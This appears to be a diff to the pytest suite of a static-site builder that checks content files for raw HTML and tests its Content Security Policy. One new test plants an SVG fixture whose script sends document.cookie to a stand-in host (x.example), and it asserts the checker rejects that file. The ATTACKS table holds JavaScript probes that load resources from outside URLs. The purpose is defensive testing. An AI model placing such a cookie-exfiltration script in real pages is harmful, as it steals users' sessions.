@@ -3,7 +3,11 @@
 from __future__ import annotations
 
 import http.server
+import os
+import subprocess
+import sys
 import threading
+from collections import Counter
 from contextlib import chdir
 from pathlib import Path
 
@@ -11,7 +15,10 @@ import pytest
 
 from handouts.cli import main
 from handouts.csp import content_security_policy
-from handouts.untrusted import refused_html
+from handouts.untrusted import Finding, lines_of, refused_html
+
+from .conftest import ROOT
+from .test_site import fetch_when_ready, free_port
 
 FIRST = 11  # the file line the body starts on, as after a ten-line front matter
 YOUTUBE = (
@@ -135,6 +142,12 @@ def test_a_pasted_embed_code_is_explained_in_plain_words():
     )
 
 
+def test_a_thing_no_single_line_holds_is_still_reported_at_its_first_clue():
+    finding = Finding(("element", "iframe", ()), "raw HTML <iframe> is not allowed", ("<iframe",))
+    never_gone = lambda index: Counter({finding.key: 2})  # noqa: E731
+    assert lines_of(finding, 2, ["Text.", "", "<iframe src=a>", "</iframe>"], never_gone) == [2, 2]
+
+
 def add_to(path: Path, text: str) -> int:
     """Append text to a content file; return the file line the text starts on."""
     before = path.read_text()
@@ -161,6 +174,25 @@ def test_check_names_every_file_and_line(project: Path, capsys):
     assert f"content/programs/upper-back-pain.md:{script}: raw HTML <script>" in "\n".join(lines)
 
 
+def test_pages_in_subfolders_and_svg_pictures_are_checked_too(project: Path, capsys):
+    content = project / "content"
+    (content / "help").mkdir()
+    (content / "help/index.md").write_text("# Help\n\n<iframe src=\"https://x.example/v\"></iframe>\n")
+    (content / "images").mkdir()
+    (content / "images/logo.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4">\n'
+        '  <rect width="4" height="4"/>\n  <script>fetch("https://x.example/?" + document.cookie)</script>\n</svg>\n'
+    )
+    (content / "images/fine.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><circle r="2"/></svg>\n')
+    with chdir(project):
+        assert main(["check"]) == 1
+    err = capsys.readouterr().err
+    assert "content/help/index.md:3: raw HTML <iframe> is not allowed" in err
+    assert "content/images/logo.svg:3: in a picture, <script> is not allowed" in err
+    assert "fine.svg" not in err
+    assert err.splitlines()[-1] == "2 problems found; nothing was built."
+
+
 def test_policy_allows_the_given_inline_scripts_by_hash():
     policy = content_security_policy(
         '<script>alert(1)</script><script type="application/json">{}</script><script src="a.js"></script>'
@@ -170,6 +202,11 @@ def test_policy_allows_the_given_inline_scripts_by_hash():
     assert directives["script-src"] == "'self' 'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='"
     assert directives["object-src"] == "'none'" and directives["form-action"] == "'none'"
     assert "frame-ancestors" not in directives  # a <meta> policy may not set it; Chromium logs an error
+
+
+def test_live_preview_lets_mkdocs_reload_script_run():
+    policy = content_security_policy("<script>alert(1)</script>", live_reload=True)
+    assert "script-src 'self' 'unsafe-inline';" in policy  # no hash: a hash would switch 'unsafe-inline' off
 
 
 def test_every_page_has_the_policy_before_any_script_or_style(built_site: Path):
@@ -189,7 +226,8 @@ ATTACKS = {
                "i.src = url + 'x.png'; document.body.append(i); })",
     "connect-src": "url => fetch(url + 'data.json').then(() => 'loaded', () => 'blocked')",
     "frame-src": "url => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }",
-    "media-src": "url => { const v = document.createElement('video'); v.src = url + 'a.mp4'; document.body.append(v); }",
+    "media-src": "url => { const v = document.createElement('video'); v.src = url + 'a.mp4'; "
+                 "document.body.append(v); }",
     "font-src": "url => new FontFace('Elsewhere', `url(${url}a.woff2)`).load().catch(() => 'blocked')",
     "style-src-elem": "url => { const l = document.createElement('link'); l.rel = 'stylesheet'; "
                       "l.href = url + 'a.css'; document.head.append(l); }",
@@ -285,19 +323,42 @@ def test_site_breaks_no_rule_of_its_own_policy(browser, serve, built_site: Path,
             context.close()
 
 
-def test_search_and_instant_navigation_work_under_the_policy(browser, serve, built_site: Path):
+def test_search_works_under_the_policy(browser, serve, built_site: Path):
+    """The search worker starts, and Enter in the search box (a form) opens the first result."""
     context, page, errors = open_watched(browser, serve(built_site).url)
     try:
         page.locator(".md-search__input").click()
         page.locator(".md-search__input").press_sequentially("open books")  # material reads keys, not fill()
-        result = page.locator(".md-search-result__link").first
-        result.wait_for()
-        page.evaluate("window.__sameDocument = true")
-        result.click()
-        page.wait_for_url("**/exercises/open-books/**")
+        page.locator(".md-search-result__link").first.wait_for()
+        assert page.evaluate("window.__violations") == []
+        page.locator(".md-search__input").press("Enter")
+        page.wait_for_url("**/exercises/open-books/?h=open+books")
         page.locator("h1", has_text="Open books").wait_for()
-        assert page.evaluate("window.__sameDocument") is True, "material's instant navigation did not happen"
         assert page.evaluate("window.__violations") == []
         assert errors == []
     finally:
         context.close()
+
+
+def test_live_preview_reloads_under_the_policy(browser, project: Path):
+    port = free_port()
+    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
+    server = subprocess.Popen(
+        [sys.executable, str(ROOT / "build.py"), "serve", "-a", f"127.0.0.1:{port}"], cwd=project, env=env,
+        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+    )
+    url = f"http://127.0.0.1:{port}/exercises/open-books/"
+    context = browser.new_context()
+    try:
+        fetch_when_ready(url)
+        context.add_init_script(WATCH)
+        page = context.new_page()
+        errors: list[str] = []
+        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
+        with page.expect_console_message(lambda m: m.text == "Enabled live reload"):  # mkdocs' inline script ran
+            page.goto(url)
+        assert page.evaluate("window.__violations") == [] and errors == []
+    finally:
+        context.close()
+        server.terminate()
+        server.wait(timeout=20)
